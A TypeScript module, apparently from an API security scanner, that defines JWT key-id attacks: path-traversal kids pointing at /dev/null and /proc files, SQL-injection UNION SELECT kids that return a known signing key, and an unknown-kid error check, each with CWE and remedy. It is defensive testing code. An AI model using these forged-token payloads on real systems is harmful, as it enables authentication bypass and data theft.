import { createHmac, randomUUID } from 'node:crypto';
import {
  type AttackOutcome,
  inconclusive,
  type OperationAttack,
  type OperationContext,
  safe,
  skipped,
} from '../attack.ts';
import { type Credential, withToken } from '../credentials.ts';
import { type Jwt, refreshed, signHmac, signingInput } from '../jwt/token.ts';
import { remedies } from '../remedies.ts';
import { jwtAttack, tryTokens } from './jwt-signature.ts';

const remedy = remedies['jwt-kid-injection'];

export const kidTraversal = jwtAttack(
  {
    id: 'kid-traversal',
    number: 'D22',
    title: 'The key id of a JWT is a path of the file system',
    cwe: [22, 347],
    severity: 'critical',
    why: 'Whoever names a file whose content is known can sign with it.',
    remedy,
  },
  (jwt) => {
    const ups = ['../../../../../../../../../../dev/null', '/dev/null', '....//....//....//....//....//dev/null'];
    const emptied = ups.flatMap((kid) =>
      [
        ['an empty key', Buffer.alloc(0)],
        ['a null byte', Buffer.of(0)],
      ].map(([name, key]) => ({ kid, key: key as Buffer, name: name as string })),
    );
    const ostype = {
      kid: '../../../../../../../../../../proc/sys/kernel/ostype',
      key: Buffer.from('Linux\n'),
      name: 'the content of that file',
    };
    return [...emptied, ostype, { ...ostype, key: Buffer.from('Linux') }].map(({ kid, key, name }) => ({
      what: `a token whose key id is the path ${kid}`,
      token: signHmac({ ...jwt.header, alg: 'HS256', kid }, refreshed(jwt.claims), key),
      recipe: `The valid token's claims, signed by HS256 with ${name}, under "kid":"${kid}".`,
    }));
  },
  { isImplied: true },
);

const known = 'countersign-probe-key';

/** The statements leave one row with a key that is known: as text, and as base64 in case the column holds that. */
function injections(): readonly string[] {
  return ["'", '"', ''].flatMap((quote) => [
    `x${quote} UNION SELECT '${known}' -- `,
    `x${quote} UNION SELECT '${known}'; -- `,
    `x${quote} UNION SELECT '${known}', '${known}' -- `,
    `x${quote} UNION SELECT 1, '${known}' -- `,
    `x${quote} UNION SELECT 1, '${known}', '${known}' -- `,
  ]);
}

export const kidSqlInjection: OperationAttack = {
  id: 'kid-sqli',
  number: 'D23',
  level: 'operation',
  title: 'The key id of a JWT reaches a database statement',
  cwe: [89, 347],
  severity: 'high',
  why: "The statement can be made to return a key of the caller's choice, or anything else that is in the database.",
  remedy,
  async run(context) {
    const { jwt, verdicts } = context;
    if (jwt === undefined) return skipped('The credential is no JWT.');
    if (verdicts.get('sig-bitflip') === 'vulnerable')
      return skipped('The signature is not checked at all (sig-bitflip).');
    const outcome = await tryTokens(
      context,
      injections().map((kid) => ({
        what: 'a token whose key id is a database statement that returns the key',
        token: signHmac({ ...jwt.header, alg: 'HS256', kid }, refreshed(jwt.claims), known),
        recipe: `The valid token's claims, signed by HS256 with the key ${known}, under "kid":${JSON.stringify(kid)}.`,
      })),
    );
    return outcome.verdict === 'vulnerable' ? outcome : brokenByQuote(context, jwt, outcome);
  },
};

/** A quote that breaks the server, where a word does not, is likely one that broke a statement. */
async function brokenByQuote(context: OperationContext, jwt: Jwt, otherwise: AttackOutcome): Promise<AttackOutcome> {
  const quoted = await context.client.exchange(withKid(context, jwt, "x'"));
  if (quoted.reply.status < 500) return otherwise;
  const plain = await context.client.exchange(withKid(context, jwt, 'x'));
  const doubled = await context.client.exchange(withKid(context, jwt, "x''"));
  if (plain.reply.status >= 500 || doubled.reply.status >= 500) return otherwise;
  return {
    verdict: 'vulnerable',
    severity: 'low',
    confidence: 'medium',
    message: `${context.operation.method} ${context.operation.path} answers ${quoted.reply.status} to a key id with a quote, and ${plain.reply.status} to one without: it seems to reach a database statement.`,
    exchanges: [quoted, plain, doubled],
    recipe: `The valid token with "kid":"x'".`,
  };
}

function withKid(context: OperationContext, jwt: Jwt, kid: string) {
  const input = signingInput({ ...jwt.header, kid }, jwt.claims);
  // countersign-ignore jwt-hardcoded-secret, jwt-weak-secret: an attack, whose signature is meant to be wrong
  const token = `${input}.${createHmac('sha256', 'x').update(input).digest('base64url')}`;
  return context.with(withToken(context.credential as Credential, token));
}

export const kidUnknown: OperationAttack = {
  id: 'kid-unknown',
  number: 'D24',
  level: 'operation',
  title: 'An unknown key id breaks the API',
  cwe: [755],
  severity: 'low',
  why: 'A key id that is not known is a bad credential, not a failure of the server: each one is an alarm that means nothing, or a way to keep it busy.',
  remedy,
  async run(context) {
    const { jwt, operation } = context;
    if (jwt === undefined) return skipped('The credential is no JWT.');
    const exchange = await context.client.exchange(withKid(context, jwt, randomUUID()));
    if (exchange.reply.status < 500) return safe(`It answers ${exchange.reply.status}.`);
    if (context.baseline.none.reply.status >= 500) return inconclusive('It fails for want of a credential, too.');
    return {
      verdict: 'vulnerable',
      message: `${operation.method} ${operation.path} answers ${exchange.reply.status} to a token with an unknown key id; it should be 401.`,
      exchanges: [exchange],
      recipe: 'The valid token with a random "kid".',
    };
  },
};
